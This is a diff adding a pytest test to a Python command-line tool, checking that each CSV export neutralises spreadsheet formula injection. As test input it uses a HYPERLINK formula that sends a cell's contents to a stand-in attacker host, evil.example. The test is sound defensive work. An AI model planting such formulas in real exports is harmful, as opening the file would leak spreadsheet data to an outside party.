@@ -1,6 +1,7 @@
 """Database faults: one line and exit code 2 from every command; readers never write."""
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import sqlite3
@@ -153,3 +154,28 @@ def test_unexpected_errors_ask_for_a_bug_report(tmp_path, monkeypatch):
     assert "bug" in res.stderr and "--debug" in res.stderr and "ZeroDivisionError" in res.stderr
     res = CliRunner().invoke(cli, ["--debug", "documents", "--db", str(db)])
     assert res.exit_code == 2 and "Traceback" in res.stderr
+
+
+def test_every_csv_the_command_writes_is_neutralised(tmp_path, pipeline, monkeypatch):
+    import csv
+    monkeypatch.setattr("sitroom.pipeline.Pipeline", lambda *a, **k: pipeline)
+    import io
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    src = tmp_path / "in.jsonl"
+    src.write_text('{"title": %s, "source": "@Outlet", "text": "+WARSAW, Nov 8 - Polish border '
+                   'guards said on Monday that 300 migrants had gathered near Kuznica. \\"=We '
+                   'will hold the line,\\" the minister said in Warsaw."}\n'
+                   % json.dumps(evil), encoding="utf-8")
+    db = tmp_path / "csv.db"
+    res = CliRunner().invoke(cli, ["ingest", str(src), "--db", str(db), "-q"])
+    assert res.exit_code == 0, res.output
+    seen = 0
+    for args in (["documents"], ["quotes"], ["figures"], ["places"], ["actors"], ["events"],
+                 ["dates"], ["search", "border"], ["figures", "--series"]):
+        res = CliRunner().invoke(cli, args + ["--csv", "--db", str(db)])
+        assert res.exit_code == 0, (args, res.output)
+        for row in csv.reader(io.StringIO(res.stdout, newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (args, cell)
+                seen += cell.startswith(("'=", "'+", "'@"))
+    assert seen >= 3
